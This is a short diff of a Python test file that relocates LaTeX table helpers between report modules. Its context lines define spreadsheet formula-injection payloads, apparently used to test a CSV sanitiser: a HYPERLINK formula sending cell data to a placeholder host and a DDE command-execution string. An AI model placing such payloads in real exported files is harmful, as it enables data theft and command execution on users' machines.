@@ -15,11 +15,10 @@ from unimmad.metrics.metrics import METRIC_KEYS
 from unimmad.report.comparison import OtherReport, compare, write_comparison
 from unimmad.report.csv_text import csv_text, harmless
 from unimmad.report.expert_usage import ClassUsage
-from unimmad.report.latex import latex_escaped, latex_table
 from unimmad.report.report import ClassResult, PublishedRow, Report, mean_of_members
 from unimmad.report.scored_class import ScoredClass
 from unimmad.report.specialisation import Specialisation, datasets_csv, leaders_csv, overlap_csv
-from unimmad.report.tables import escaped, markdown_table, write_image_scores, write_tables
+from unimmad.report.tables import escaped, latex_escaped, latex_table, markdown_table, write_image_scores, write_tables
 
 FORMULA = '=HYPERLINK("http://x.example?"&A1,"ok")'
 HOSTILE = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1")  # noqa: RUF001
